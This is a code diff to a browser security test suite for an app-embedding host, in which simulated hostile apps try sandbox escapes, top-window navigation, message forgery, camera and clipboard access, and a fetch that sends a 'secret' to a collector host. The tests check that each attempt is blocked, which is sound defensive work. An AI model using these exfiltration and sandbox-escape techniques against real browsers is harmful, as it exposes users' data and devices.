@@ -5,8 +5,8 @@
  */
 import { UI_MIME_TYPE } from "@vitrine/protocol";
 import type { Frame, Page } from "playwright-core";
-import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
-import { Collector } from "../../../testing/attacks/collector.ts";
+import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from "vitest";
+import { Collector, type Target } from "../../../testing/attacks/collector.ts";
 import { REACHES, STORAGE } from "../../../testing/attacks/page-cases.ts";
 import {
   HOST_SECRET,
@@ -30,12 +30,12 @@ let before: State;
 let seen: string[];
 /** Another app of the victim's own server, in the same page. */
 let sibling: Frame;
+/** Another page, of {@link openWith}. */
+let beside: Page | undefined;
 const collector = new Collector();
 
 beforeAll(async () => {
-  stage = await PageStage.open({
-    args: ["--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"],
-  });
+  stage = await PageStage.open();
   scene = await stage.openScene({ warm: true });
   sibling = await stage.stage.mount(scene.page, "sibling");
   seen = watchPage(scene.page);
@@ -69,10 +69,15 @@ async function withoutPolicy(page: Page): Promise<void> {
     await route.fulfill({ response, headers: { "content-type": "text/html" } });
   });
 }
-/** A page for one test, with one app of its own in it, beside the others' page. */
+/** A page beside the others', anew for one test, with one app of its own in it. */
 async function openWith(name: string): Promise<{ page: Page; view: Frame }> {
-  const page = await stage.stage.openPage();
+  const page = await openBeside();
+  await stage.show(page);
   return { page, view: await stage.stage.mount(page, name) };
+}
+async function openBeside(): Promise<Page> {
+  beside ??= await stage.stage.openPage();
+  return beside;
 }
 
 describe("an app reaches for", () => {
@@ -177,8 +182,9 @@ describe("an app moves", () => {
     await barrier(scene.attacker);
     await barrier(scene.victim);
     // The control: where nothing contains it, each of them goes.
+    const shown = await stage.stage.context.newPage();
     const goes = async (attack: string, at: string): Promise<void> => {
-      const free = await stage.openFree();
+      const free = await stage.openFree(shown);
       const frame = free.page.frames().find((each) => new URL(each.url()).pathname === at);
       const from = frame?.url();
       // A script has moved it when that is its title, or its text.
@@ -195,7 +201,6 @@ describe("an app moves", () => {
       // Its own document may be gone before it can answer.
       await free.attacker.evaluate(attack).catch(() => {});
       await expect.poll(isMoved, { message: `${attack} of ${at}` }).toBe(true);
-      await free.page.close();
     };
     const windows = {
       top: "/",
@@ -217,6 +222,7 @@ describe("an app moves", () => {
       await goes(`${add("a", 'href: "about:blank"')}.click()`, at);
       await goes(`${add("form", 'action: "about:blank"')}.submit()`, at);
     }
+    await shown.close();
   });
 
   it.each([
@@ -249,10 +255,10 @@ describe("an app moves", () => {
       html: rawView(`const move = () => { ${declare} ${script} }; (async () => { ${settle} })();`),
       upstream: stage.attackerServer,
     });
-    const opened = await stage.stage.context.newPage();
-    if (/without any policy/.test(title)) await withoutPolicy(opened);
-    await opened.goto(stage.stage.origin);
-    await opened.waitForFunction(() => "host" in globalThis);
+    const isBare = /without any policy/.test(title);
+    const opened = isBare ? await stage.stage.context.newPage() : await openBeside();
+    if (isBare) await withoutPolicy(opened);
+    await stage.show(opened);
     // The page's policy has no pictures.
     const pictured = opened.evaluate(
       () =>
@@ -263,7 +269,7 @@ describe("an app moves", () => {
           picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=";
         }),
     );
-    expect(await pictured).toBe(/without any policy/.test(title));
+    expect(await pictured).toBe(isBare);
     const called = stage.called.length;
     await opened.evaluate(() => host.mount("mover", { consent: "allow" }));
     const failure = await opened.evaluate(() => host.log.until("mover failed"));
@@ -284,7 +290,7 @@ describe("an app moves", () => {
     }, page);
     await expect.poll(() => stage.called.slice(called)).toEqual(["attacker look", "attacker look"]);
     await opened.context().clearPermissions();
-    await opened.close();
+    if (isBare) await opened.close();
   });
 
   it("attack B03: itself to its own page again, and has its sandbox still", async () => {
@@ -295,7 +301,6 @@ describe("an app moves", () => {
     const again = await stage.stage.viewOf(page, "attacker");
     expect(await outcome(again, () => open("about:blank"))).toBe("got null");
     expect(await outcome(again, () => parent.document.title)).toBe("SecurityError");
-    await page.close();
   });
 });
 
@@ -329,7 +334,6 @@ describe("an app forges", () => {
       return raw.ask("ping");
     });
     expect(await reports(page, "attacker", "script_error")).toMatchObject([{ by: "view" }]);
-    await page.close();
   });
 
   it("messages of another app, to its proxy, to its view, to the page", async () => {
@@ -378,7 +382,7 @@ describe("an app forges", () => {
       html: rawView("start();"),
       meta: { csp: { frameDomains: [target.http] } },
     });
-    const { page, view } = await openWith("nests");
+    const { view } = await openWith("nests");
     const called = stage.called.length;
     const posted = await view.evaluate(
       ([how, html, src]) =>
@@ -401,11 +405,13 @@ describe("an app forges", () => {
     // The control: the view's own is done.
     await view.evaluate(() => raw.ask("tools/call", { name: "look" }));
     expect(stage.called.slice(called)).toEqual(["attacker look"]);
-    await page.close();
   });
 });
 
 describe("a server hands over", () => {
+  let control: Page | undefined;
+  afterAll(() => control?.close());
+
   it.each([
     ["a script before everything", ""],
     ["a head in a comment", "<!-- <head> -->"],
@@ -418,23 +424,22 @@ describe("a server hands over", () => {
       `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`,
     ],
   ])("attack B06: a document with %s, and its policy holds from the first byte", async (title, decoy) => {
-    const attempt = async (name: string): Promise<{ html: string; target: { http: string } & object }> => {
-      const target = await collector.listen(`${name}-${title.length}`);
+    const attempt = async (name: string): Promise<{ html: string; target: Target }> => {
+      const target = await collector.listen(`${title.length}.${name}`);
       const script = `globalThis.tried = fetch("${target.http}/?secret", { mode: "no-cors" }).then(() => "sent", () => "blocked")`;
       return { html: `${decoy}<script>${script}</script>${rawView("tried.then(() => start());")}`, target };
     };
     const contained = await attempt("early");
     await stage.serve("early", { server: "attacker", html: contained.html });
-    const { page, view } = await openWith("early");
+    const { view } = await openWith("early");
     expect(await view.evaluate(() => Object(globalThis).tried)).toBe("blocked");
-    expect(collector.evidence(contained.target as never).requests).toEqual([]);
-    await page.close();
+    expect(collector.evidence(contained.target).requests).toEqual([]);
+    // The control: from a page that nothing contains it is sent.
     const free = await attempt("early-free");
-    collector.show(free.target as never, free.html);
-    const control = await stage.stage.context.newPage();
+    collector.show(free.target, free.html);
+    control ??= await stage.stage.context.newPage();
     await control.goto(`${free.target.http}/page`);
     expect(await control.evaluate(() => Object(globalThis).tried)).toBe("sent");
-    await control.close();
   });
 
   it("attack B09, B11: what it wishes for its frame and for the person's devices, and gets what was granted", async () => {
@@ -444,8 +449,12 @@ describe("a server hands over", () => {
         "allow-top-navigation allow-popups-to-escape-sandbox allow-popups allow-modals allow-downloads",
       allow: "camera; usb",
     };
-    // The person has allowed it all, to everybody: what stands in the way is the frame.
-    const { context } = stage.stage;
+    // A browser that has a camera. The person has allowed it all, to everybody: what stands in the way is the frame.
+    const equipped = await PageStage.open({
+      args: ["--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"],
+    });
+    onTestFinished(() => equipped.close());
+    const { context } = equipped.stage;
     await context.grantPermissions(["camera", "geolocation", "clipboard-read", "clipboard-write"]);
     await context.setGeolocation({ latitude: 52, longitude: 13 });
     const media = (): Promise<string> =>
@@ -459,8 +468,9 @@ describe("a server hands over", () => {
       );
     const write = (): Promise<string> => navigator.clipboard.writeText("copied").then(() => "written");
     const read = (): Promise<string> => navigator.clipboard.readText();
-    await stage.serve("wishes", { html: rawView(), meta });
-    const { page, view } = await openWith("wishes");
+    await equipped.serve("wishes", { html: rawView(), meta });
+    const page = await equipped.stage.openPage();
+    const view = await equipped.stage.mount(page, "wishes");
     // A page without the focus has no clipboard anyway.
     await view.click("p");
     expect(await outcome(view, () => document.hasFocus())).toBe("got true");
@@ -478,21 +488,18 @@ describe("a server hands over", () => {
       expect(sandbox).toEqual(["allow-forms", "allow-same-origin", "allow-scripts"]);
       expect(allow).toBe("");
     }
-    await page.close();
     // The control: what is granted works; and what no app is granted, where nothing contains it.
-    await stage.serve("granted", { html: rawView(), meta, grant: () => true });
-    const granted = await openWith("granted");
-    await granted.view.click("p");
-    expect(await outcome(granted.view, media)).toBe("got camera true");
-    expect(await outcome(granted.view, place)).toBe("got place 52");
-    expect(await outcome(granted.view, write)).toBe("got written");
-    expect(await outcome(granted.view, read)).toBe("NotAllowedError");
-    await granted.page.close();
-    const free = await stage.openFree();
+    await equipped.serve("granted", { html: rawView(), meta, grant: () => true });
+    await equipped.show(page);
+    const granted = await equipped.stage.mount(page, "granted");
+    await granted.click("p");
+    expect(await outcome(granted, media)).toBe("got camera true");
+    expect(await outcome(granted, place)).toBe("got place 52");
+    expect(await outcome(granted, write)).toBe("got written");
+    expect(await outcome(granted, read)).toBe("NotAllowedError");
+    const free = await equipped.openFree();
     await free.attacker.click("#text");
     expect(await outcome(free.attacker, read)).toBe("got copied");
-    await free.page.close();
-    await context.clearPermissions();
   });
 
   it.each(["text/html", "image/svg+xml", "text/html;profile=other", undefined])(
@@ -522,7 +529,7 @@ describe("an attacker's page or app embeds", () => {
     const victims = [src, viewOrigin + new URL(src).pathname];
     const hosts = [...victims.map((url) => new URL(url).origin), stage.free.origin("free")];
     await stage.serve("embeds", { html: rawView(), meta: { csp: { frameDomains: hosts } } });
-    const { page, view } = await openWith("embeds");
+    const { view } = await openWith("embeds");
     const site = await stage.stage.context.newPage();
     await site.goto(`${stage.free.origin("other")}/attacker`);
     const embed = (frame: Frame | Page, url: string): Promise<unknown> =>
@@ -546,6 +553,6 @@ describe("an attacker's page or app embeds", () => {
     expect(shown[2]).toContain("/sw.js");
     const elsewhere = site.mainFrame().childFrames();
     expect(elsewhere.map((frame) => frame.url())).toEqual(Array(2).fill("chrome-error://chromewebdata/"));
-    await Promise.all([page.close(), site.close()]);
+    await site.close();
   });
 });
